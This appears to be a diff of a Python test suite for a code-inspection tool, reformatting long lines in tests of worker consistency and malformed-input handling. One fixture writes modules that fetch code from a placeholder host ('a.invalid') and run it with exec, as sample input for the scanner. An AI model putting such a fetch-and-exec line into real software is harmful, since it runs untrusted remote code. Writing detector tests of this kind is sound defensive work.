@@ -183,7 +183,9 @@ def test_a_confined_worker_survives(data: bytes) -> None:
 def test_the_answer_is_the_same_with_one_worker_and_with_four(tmp_path: Path) -> None:
     folder = trapped(tmp_path / "in", tmp_path / "trace")
     for number in range(12):
-        (folder / f"m{number}.py").write_text(f"import requests\nexec(requests.get('https://a.invalid/{number}').text)\n")
+        (folder / f"m{number}.py").write_text(
+            f"import requests\nexec(requests.get('https://a.invalid/{number}').text)\n"
+        )
     assert inspect(folder, workers=1) == inspect(folder, workers=4)
 
 
@@ -195,7 +197,9 @@ def test_findings_come_back_from_the_wire_as_they_were() -> None:
     assert load(Findings, dump(found)) == found
 
 
-@pytest.mark.parametrize("raw", [b"", b"{}", b"[]", b"[1]", b'["python"]', b'["x",[],[],[],[],[],[],{}]', b"[" * 100_000])
+@pytest.mark.parametrize(
+    "raw", [b"", b"{}", b"[]", b"[1]", b'["python"]', b'["x",[],[],[],[],[],[],{}]', b"[" * 100_000]
+)
 def test_a_wrong_answer_is_no_answer(raw: bytes) -> None:
     with pytest.raises(BrokenAnswer):
         load(Findings, raw)
@@ -215,5 +219,3 @@ def test_no_thread_or_process_is_left(tmp_path: Path) -> None:
     assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_utime >= 0
     with pytest.raises(ChildProcessError):
         os.waitpid(-1, os.WNOHANG)
-
-
